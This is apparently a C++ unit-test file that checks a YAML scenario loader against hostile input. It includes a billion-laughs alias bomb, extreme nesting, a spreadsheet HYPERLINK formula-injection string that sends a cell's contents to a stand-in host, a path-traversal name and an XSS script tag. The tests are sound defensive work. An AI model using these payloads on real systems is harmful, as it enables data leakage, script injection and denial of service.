#include <pthread.h>
#include <sys/resource.h>

#include <catch2/catch.hpp>
#include <ctime>
#include <filesystem>
#include <functional>

#include "model/scenario_text.hpp"
#include "rimstance/model/load.hpp"

using namespace rimstance;
using namespace rimstance::texts;
using Catch::Contains;

// The kinds of hostile YAML in nasty/, each as the one defect of a scenario that otherwise loads, and
// the files themselves.

namespace {

const std::string kFolder = std::string(RIMSTANCE_SOURCE_DIR) + "/tests/model/nasty/";

/// Processor time, so that a busy machine fails nothing.
double seconds(const std::function<void()>& work) {
  const std::clock_t start = std::clock();
  work();
  return static_cast<double>(std::clock() - start) / CLOCKS_PER_SEC;
}

/// Line of the first place of `piece` in `text`, from 1.
int line_of(const std::string& text, std::string_view piece) {
  const std::size_t at = text.find(piece);
  expects(at != std::string::npos, "line_of: the piece is there");
  return 1 + static_cast<int>(std::count(text.begin(), text.begin() + static_cast<long>(at), '\n'));
}
std::string at_line(const std::string& text, std::string_view piece) {
  return "dunlin.yaml:" + std::to_string(line_of(text, piece)) + ":";
}

void on_small_stack(const std::function<void()>& work) {
  pthread_attr_t attributes;
  pthread_attr_init(&attributes);
  pthread_attr_setstacksize(&attributes, 512 * 1024);
  pthread_t thread;
  const auto run = [](void* f) -> void* {
    (*static_cast<const std::function<void()>*>(f))();
    return nullptr;
  };
  REQUIRE(pthread_create(&thread, &attributes, run, const_cast<std::function<void()>*>(&work)) == 0);
  pthread_join(thread, nullptr);
  pthread_attr_destroy(&attributes);
}

}  // namespace

TEST_CASE("nasty YAML: the scenario without a defect loads") { CHECK(complaints(dunlin()) == ""); }

TEST_CASE("nasty YAML y01: a key given twice is an error that names it and both lines") {
  const std::string text = dunlin_with("spot: { at: \"[0, 0] m\", yaw: 0 deg }",
                                       "spot:\n  yaw: 0 deg\n  at: \"[0, 0] m\"\n  yaw: 90 deg");
  const int first = line_of(text, "  yaw: 0 deg");
  const std::string said = complaints(text);
  CHECK_THAT(said, Contains("key \"yaw\" is given twice") &&
                       Contains("lines " + std::to_string(first) + " and " + std::to_string(first + 2)));
  CHECK_THAT(said, Contains(at_line(text, "  yaw: 90 deg")));
}

TEST_CASE("nasty YAML y02: misspelt optional keys are errors with the nearest key, all in one run") {
  std::string text = dunlin_with("set_error: 0 deg", "set_eror: 0 deg");
  text = edited(text, "line_EA: 80 kN", "line_AE: 80 kN");
  const std::string said = complaints(text);
  CHECK_THAT(said, Contains("unknown key \"set_eror\"; did you mean \"set_error\"?"));
  CHECK_THAT(said, Contains("unknown key \"line_AE\"; did you mean \"line_EA\"?"));
  CHECK_THAT(said, Contains(at_line(text, "set_eror")) && Contains(at_line(text, "line_AE")));
}

TEST_CASE("nasty YAML y03: zero-padded and octal numbers are refused as ambiguous") {
  for (const char* units : {"010", "0123"})
    CHECK_THAT(complaints(dunlin_with("units: 6", std::string("units: ") + units)),
               Contains(std::string("\"") + units + "\": a leading zero is ambiguous"));
  CHECK_THAT(complaints(dunlin_with("units: 6", "units: 0o3")),
             Contains("\"0o3\" is not a whole decimal number"));
  CHECK_THAT(complaints(dunlin_with("mass: 40 kg", "mass: 040 kg")), Contains("leading zero is ambiguous"));
}

TEST_CASE("nasty YAML y04: text stays text, and switches are true or false only") {
  std::string text = dunlin_with("title: Dunlin beside a hole", "title: no");
  text = edited(text, "subsystem: power", "subsystem: 1e3");
  const Document document = load(text);
  CHECK(document.scenario->title == "no");
  CHECK(document.scenario->machine.guide->bodies[0].subsystem == "1e3");
  for (const char* flag : {"nO", "1", "yes", "on", "True", "\"true\""}) {
    const std::string wrong = dunlin_with("set_error: 0 deg", std::string("foot_limits: ") + flag);
    CAPTURE(flag);
    CHECK_THAT(complaints(wrong),
               Contains(at_line(wrong, "foot_limits")) && Contains("neither true nor false"));
  }
}

TEST_CASE(
    "nasty YAML y05: not-a-number, infinities, zero and negative masses are each named with their line") {
  std::string text = dunlin_with("gravity: moon", "gravity: .nan");
  text = edited(text, "payload: { mass: 14 kg, reach: 5.5 m }", "payload:\n  mass: .inf\n  reach: -0.0 m");
  text = edited(text, "name: turntable, mass: 40 kg", "name: turntable, mass: -120 kg");
  text = edited(text, "name: cabinets, mass: 120 kg", "name: cabinets, mass: 0 kg");
  const std::string said = complaints(text);
  CHECK_THAT(said,
             Contains(at_line(text, "gravity")) && Contains("gravity: \".nan\" is not a finite number"));
  CHECK_THAT(said, Contains(at_line(text, "mass: .inf")) &&
                       Contains("payload.mass: \".inf\" is not a finite number"));
  CHECK_THAT(said, Contains(at_line(text, "reach: -0.0")) &&
                       Contains("payload.reach: \"-0.0 m\" is out of range; allowed: over 0 m"));
  CHECK_THAT(
      said,
      Contains("machine.platform.bodies.turntable.mass: \"-120 kg\" is out of range; allowed: over 0 kg"));
  CHECK_THAT(said,
             Contains("machine.guide.bodies.cabinets.mass: \"0 kg\" is out of range; allowed: over 0 kg"));
}

TEST_CASE("nasty YAML y06: anchors and aliases are refused without following them") {
  std::string bomb = dunlin() + "a0: &a0 [1, 1, 1]\n";
  for (int i = 1; i < 30; ++i) {
    const std::string before = "*a" + std::to_string(i - 1), list = before + ", " + before + ", " + before;
    bomb += "a" + std::to_string(i) + ": &a" + std::to_string(i) + " [" + list + "]\n";
  }
  std::string said;
  CHECK(seconds([&] { said = complaints(bomb); }) < 2);
  CHECK_THAT(said,
             Contains("anchors and aliases (& and *) are not allowed") && Contains(at_line(bomb, "a0: &a0")));
}

TEST_CASE("nasty YAML y07: nesting deeper than 64 is an error, also on a small stack") {
  const auto nested = [](int levels) {
    const auto n = static_cast<std::size_t>(levels);
    return dunlin() + "x: " + std::string(n, '[') + std::string(n, ']') + "\n";
  };
  for (const int levels : {65, 20000, 300000}) {
    std::string said;
    CHECK(seconds([&] { on_small_stack([&] { said = complaints(nested(levels)); }); }) < 2);
    CHECK_THAT(said, Contains("nested deeper than 64 levels"));
  }
  CHECK_THAT(complaints(nested(60)), Contains("unknown key \"x\"") && !Contains("nested"));
  std::string dashes = "rimstance:\n  ";
  for (int i = 0; i < 5000; ++i) dashes += "- ";
  CHECK_THAT(complaints(dashes + "1\n"), Contains("nested deeper than 64 levels"));
}

TEST_CASE("nasty YAML y08: hostile names are text, kept as they are") {
  const std::string formula = "=HYPERLINK(\"http://x.invalid/?\"&A1,\"ok\")", path = "../../../tmp/owned";
  std::string text = dunlin_with("title: Dunlin beside a hole", "title: '" + formula + "'");
  text = edited(text, "name: turntable", "name: \"" + path + "\"");
  text = edited(text, "name: cabinets", "name: \"</td><script>alert(1)</script>\"");
  const Document document = load(text);
  CHECK(document.scenario->title == formula);
  CHECK(document.scenario->machine.platform.bodies[0].name == path);
  CHECK(document.scenario->machine.guide->bodies[0].name == "</td><script>alert(1)</script>");
}

TEST_CASE("nasty YAML: the raw files end as wrong input, quickly and in little memory") {
  for (const char* file : {"y01_duplicate_key.yaml", "y02_typo_key.yaml", "y03_octal_zero_padded.yaml",
                           "y04_no_is_not_a_name.yaml", "y05_nan_inf.yaml", "y06_alias_bomb.yaml",
                           "y07_deep_nesting.yaml", "y08_hostile_names.yaml"}) {
    CAPTURE(file);
    rusage before{}, after{};
    getrusage(RUSAGE_SELF, &before);
    CHECK(seconds([&] {
            on_small_stack([&] { CHECK_THROWS_AS(load_scenario(kFolder + file), InputError); });
          }) < 2);
    getrusage(RUSAGE_SELF, &after);
    CHECK(after.ru_maxrss - before.ru_maxrss < 100 * 1024);  // kB
  }
}
